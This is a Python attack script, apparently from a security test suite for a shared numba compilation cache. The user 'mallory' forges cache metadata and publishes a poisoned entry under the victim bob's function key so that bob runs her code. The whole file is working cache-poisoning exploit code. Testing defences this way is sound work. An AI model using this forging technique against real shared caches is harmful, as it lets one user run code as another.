# ATTACK 8b: the note steers bob to keys of mallory's, of a function that bob has: her code runs as bob
from h2 import *
import sysconfig
t=fresh("a8c")
site=sysconfig.get_paths()["purelib"]
s2=t.place/"site"; s2.mkdir()
shutil.copytree(f"{site}/numba", s2/"numba", ignore=shutil.ignore_patterns("tests","__pycache__"))
t.packages={"PYTHONPATH": str(s2)+":"+t.packages["PYTHONPATH"]}
os.system(f"chmod -R go-w,a+rX {s2}")
FORGE="""
from nbcache.daemon import worker
from nbcache.store.entry import Header
from nbcache.glue.keys import distributions as D
import json, numba
got=[]
d=D.Distributions()
d.remember=lambda key,variant,content,seconds: got.append((key,variant,content))
d.identity(numba)
print("notes", [(k[:8],len(c)) for k,v,c in got], file=sys.stderr)
for key,variant,content in got:
    c=json.loads(content)
    if {how!r}=="empty": c["contents"]={{}}
    else:
        for p in c["contents"]: c["contents"][p]="mallory"
    h=Header(key,"extensions","installed files","","",0.0,0.0,"","forged"+{how!r},{{"here":True}})
    done=worker.HandingStore({store!r}, worker.rule([]), writable=True).publish(h, {{"meta": json.dumps(c).encode()}})
    print("forgery:", done.ok, done.reason, file=sys.stderr)
"""
with t.daemon("--workers","1") as d:
    main=t.write("bob","good"); t.run(BOB,main); d.settle(); mine=t.entry(); of=t.parsed(mine).key
    s,o=runtime(t,BOB,main,**{**daemons.WAITING,"NBCACHE_LOG":"debug"}); print("bob before:", [l[-60:] for l in o.stderr.splitlines() if "hit: good" in l], of[:8])
    runtime(t,MALLORY,t.write("mallory","poison",FORGE.format(how="steer",store=str(t.store))),**daemons.WAITING); d.settle()
    print([l for l in d.log.splitlines() if "forgery" in l])
    warm=t.place/"mallory"/"list"
    o=proc.run([main], t.store, {"NBCACHE_READONLY":"1","NBCACHE_ON_MISS":"compile","NBCACHE_RECORD":str(warm),**t.packages}, python=t.python, user=MALLORY)
    new=[requests.read(l) for l in warm.read_bytes().splitlines()][0]
    print("bob's new key", new.key[:8], new.function)
    code=FORGING.replace('build="forged"', f'build="f0"*8, key={new.key!r}').format(copy=str(mine),store=str(t.store))
    runtime(t,MALLORY,t.write("mallory","second",code),**daemons.WAITING); d.settle()
    print([l for l in d.log.splitlines() if "forgery" in l])
    s,o=runtime(t,BOB,main,**{**daemons.WAITING,"NBCACHE_LOG":"debug"}); print("bob after:", round(s,2), o.stdout.strip(), [l[-90:] for l in o.stderr.splitlines() if "good:f" in l])
    for i in open_store(t.store).scan(): print("  ", i.key[:8], i.header.function, i.header.build, i.header.extra.get("asked"))
import glob
for f in glob.glob(str(t.store)+"/v1/usage/*"):
    if os.stat(f).st_uid==BOB: print("bob used:", [l for l in open(f).read().splitlines() if "hits" in l])
